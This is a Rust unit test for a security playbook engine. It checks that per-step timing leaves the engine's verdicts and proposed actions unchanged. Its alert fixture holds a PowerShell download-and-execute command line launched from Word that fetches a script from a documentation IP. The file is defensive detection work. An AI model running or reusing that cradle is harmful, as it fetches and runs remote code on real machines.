//! `riposte bench --by-step`: the engine times each check when asked, and timing changes
//! nothing about the run.

use playbooks::engine::{self, Outcome};
use playbooks::model::Step;

#[test]
fn timed_runs_report_each_check_and_decide_the_same() {
    let pb = crate::t1059();
    let doc = serde_json::json!({
        "@timestamp": "2026-11-29T10:00:00Z",
        "host": {"name": "WS-7", "os": {"type": "windows"}},
        "user": {"name": "kim"},
        "process": {
            "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "command_line": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
            "parent": {"executable": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}
        }
    });
    let answer = |_: &engine::CallRequest| Outcome::Ok {
        result: serde_json::Value::Null,
    };
    let plain = engine::run_offline(&pb, "a1", &doc, true, answer, |_| None);
    let (timed, times) = engine::run_offline_timed(&pb, "a1", &doc, true, answer, |_| None);
    // The same run either way.
    assert_eq!(
        serde_json::to_value(&plain.facts).unwrap(),
        serde_json::to_value(&timed.facts).unwrap()
    );
    assert_eq!(
        serde_json::to_value(&plain.escalation).unwrap(),
        serde_json::to_value(&timed.escalation).unwrap()
    );
    assert_eq!(
        serde_json::to_value(&plain.actions).unwrap(),
        serde_json::to_value(&timed.actions).unwrap()
    );
    assert!(
        !timed.actions.is_empty(),
        "the alert is escalated: actions are proposed"
    );
    // One figure per analysis step: every check took some time, lookups none (they are
    // answered outside the engine).
    assert_eq!(times.len(), pb.analysis.len());
    for (step, ns) in pb.analysis.iter().zip(&times) {
        match step {
            Step::Check(_) => assert!(*ns > 0, "check {} was not timed", step.id()),
            Step::Lookup(_) => assert_eq!(*ns, 0, "lookup {} was timed", step.id()),
        }
    }
}
